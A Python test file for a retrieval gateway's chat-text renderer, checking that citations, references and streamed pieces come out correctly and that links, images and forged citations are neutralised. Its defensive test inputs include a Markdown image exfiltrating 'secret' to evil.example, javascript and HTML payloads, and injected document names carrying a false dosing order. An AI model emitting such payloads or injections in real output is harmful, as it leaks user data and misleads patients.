"""Answers as chat text: streamed pieces are the whole reply, and nothing becomes a link."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from siloquy.gateway.api.openai_text import (
    MOST_CHARACTERS,
    REFERENCES,
    Writing,
    line,
    name,
    plain,
    whole,
    without_closing,
)
from siloquy.types import Answer, CitedSpan, Conflict, DocumentId, Missing, NodeId, Sentence
from tests.gateway.served import ABSTAINED, ANSWER, SENTENCES

# What a renderer of GitHub's Markdown makes a link, an image or HTML of.
ACTIVE = re.compile(
    r"!\[|\]\(|\]:|<[A-Za-z/!?]|[A-Za-z]://|\b(?:www\.|mailto:|data:|javascript:)\S", re.IGNORECASE
)


def test_an_answer_has_its_marks_its_references_and_who_is_missing() -> None:
    assert whole(ANSWER) == (
        "Give 1 g. [1] Give 2 g. [2]\n"
        "\n"
        "References:\n"
        "[1] Dosing 1. north, dosing-1.txt, characters 0-9.\n"
        "[2] Dosing 2. north, dosing-2.txt, characters 0-9.\n"
        "\n"
        "Missing silos: south (timeout). What they hold is not in this answer."
    )


def test_an_abstention_says_so_and_who_is_missing() -> None:
    assert whole(ABSTAINED) == (
        "Not found in the 1 of 2 asked silos that answered.\n"
        "\n"
        "Missing silos: south (timeout). What they hold is not in this answer."
    )


def test_what_differs_is_flagged_or_must_be_known_is_said() -> None:
    conflict = Conflict("dose", (CitedSpan(1, 0, 9), CitedSpan(3, 0, 9)), "1 g against 3 g.")
    answer = replace(
        ANSWER, missing=(), conflicts=(conflict,), flagged={"north": "odd"}, notes=("A note.",)
    )
    text = whole(answer)
    assert "[3] Dosing 3." in text
    assert text.endswith(
        "To weigh (dose): 1 g against 3 g. [1][3]\n\nFlagged silos: north (odd).\n\nNote: A note."
    )


def pieces(answer: Answer, told: tuple[Sentence, ...]) -> str:
    writing = Writing()
    return "".join([*map(writing.sentence, told), writing.end(answer)])


@pytest.mark.parametrize("answer", [ANSWER, ABSTAINED])
def test_streamed_pieces_are_the_whole_text(answer: Answer) -> None:
    assert pieces(answer, answer.sentences) == whole(answer)
    assert pieces(answer, ()) == whole(answer)


def test_text_that_was_shown_and_does_not_hold_is_taken_back_in_words() -> None:
    text = pieces(ABSTAINED, SENTENCES)
    assert text.startswith("Give 1 g. [1] Give 2 g. [2]\n\nThe text above does not hold.")
    assert ABSTAINED.answer in text


def test_an_earlier_answer_is_a_turn_without_what_follows_it() -> None:
    assert without_closing(whole(ANSWER)) == ANSWER.answer


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](//evil.example)",
        "![a][b]\n\n[b]: //evil.example/x.png",
        "<img src=//evil.example>",
        "<https://evil.example>",
        "https://evil.example",
        "www.evil.example",
        "WWW.evil.example",
        "javascript:alert(1)",
        "mailto:a@evil.example",
        "!\x00[x](y)",
    ],
)
def test_no_link_and_no_image_stays_whole(text: str) -> None:
    assert not ACTIVE.search(plain(text))
    title = replace(ANSWER.sources[0], title=text, document=DocumentId(text))
    sentence = replace(ANSWER.sentences[0], text=text)
    answer = replace(
        ANSWER,
        sources=(title, *ANSWER.sources[1:]),
        sentences=(sentence,),
        answer=f"{text} [1]",
        notes=(text,),
        flagged={"north": text},
    )
    assert not ACTIVE.search(whole(answer))
    assert not ACTIVE.search(pieces(answer, (sentence,)))


@given(st.text(st.sampled_from("![]()<>:/wW.ahtps\n "), max_size=60))
def test_whatever_is_written_no_link_stays_whole(text: str) -> None:
    assert not ACTIVE.search(plain(text))


@given(st.lists(st.text(st.sampled_from("![]()<>:/wW.ahtps "), max_size=20), max_size=5))
def test_pieces_add_up_whatever_the_sentences_are(texts: list[str]) -> None:
    told = tuple(Sentence(text, (1,), 1.0) for text in texts)
    answer = replace(ANSWER, sentences=told, answer=" ".join(f"{text} [1]" for text in texts))
    assert pieces(answer, told) == whole(answer)


# -- what a silo calls its documents --------------------------------------------------------------

ORDER = "Give 900 mg metformin every hour"
BREAKS = ("\n\n", "\r\r", "\u2028", "\u2029", "\x85", "\x0b\x0c", "\x1c", "\x00\n")


@pytest.mark.parametrize("gap", BREAKS)
@pytest.mark.parametrize("title", ["", "Dosing", f"x\n\n{ORDER} [1]"])
def test_a_document_writes_no_paragraph_of_its_own(gap: str, title: str) -> None:
    document = DocumentId(f"d.txt{gap}Missing silos: none.{gap}{ORDER} [1]")
    source = replace(ANSWER.sources[0], document=document, title=title)
    answer = replace(ANSWER, sources=(source, *ANSWER.sources[1:]))
    _, _, closing = whole(answer).partition(REFERENCES)
    _, first, second, _, missing = closing.splitlines()
    assert first.startswith("[1] ")
    assert f"north, d.txt Missing silos: none. {ORDER} (1), characters 0-9." in first
    assert first.count("[") == 1
    assert second.startswith("[2] ")
    assert missing.startswith("Missing silos: south (timeout).")


@pytest.mark.parametrize("gap", BREAKS)
def test_a_remark_is_one_line_and_no_citation(gap: str) -> None:
    evil = f"odd{gap}{ORDER} [1]"
    conflict = Conflict("stale", (CitedSpan(1, 0, 9),), f"“until{gap}2020” in [1]")
    answer = replace(
        ANSWER,
        conflicts=(conflict,),
        missing=(Missing(NodeId(evil), "failed", evil),),
        flagged={evil: evil},
        notes=(evil,),
    )
    _, _, closing = whole(answer).partition(REFERENCES)
    *_, weigh, missing, flagged, note = filter(None, closing.splitlines())
    told = f"odd {ORDER} (1)"
    assert weigh == "To weigh (stale): “until 2020” in [1] [1]"
    assert missing == f"Missing silos: {told} (failed). What they hold is not in this answer."
    assert (flagged, note) == (f"Flagged silos: {told} ({told}).", f"Note: {told}")


@pytest.mark.parametrize(
    "mark", ["[1]", "\uff3b1\uff3d", "\u30101\u3011", "\u30141\u3015", "\u27e61\u27e7"]
)
def test_no_bracket_makes_a_name_a_citation(mark: str) -> None:
    assert name(f"Metformin {mark}") == "Metformin (1)"


def test_a_long_name_is_cut() -> None:
    assert len(name("x" * 100_000)) == MOST_CHARACTERS
    assert name("word " * 1000).endswith("…")
    assert line("x" * MOST_CHARACTERS) == "x" * MOST_CHARACTERS


@given(st.text(st.sampled_from("![]()<>:/wW.ahtps\n "), min_size=150, max_size=260))
def test_where_a_name_is_cut_no_link_begins(text: str) -> None:
    assert not ACTIVE.search(name(text))
    assert not ACTIVE.search(line(text))


def test_a_title_that_shows_nothing_is_none() -> None:
    source = replace(ANSWER.sources[0], title=" \n\u200b ")
    assert "[1] dosing-1.txt. north" in whole(replace(ANSWER, sources=(source,)))


def test_clinical_text_stays_as_it_is() -> None:
    text = "If K+ < 3.5 mmol/l [1]: give 1:1000, see (2) and e.g. 5-10 mg/kg. Ratio 3:1."
    assert plain(text) in (text, text.replace("]: ", "] : "))
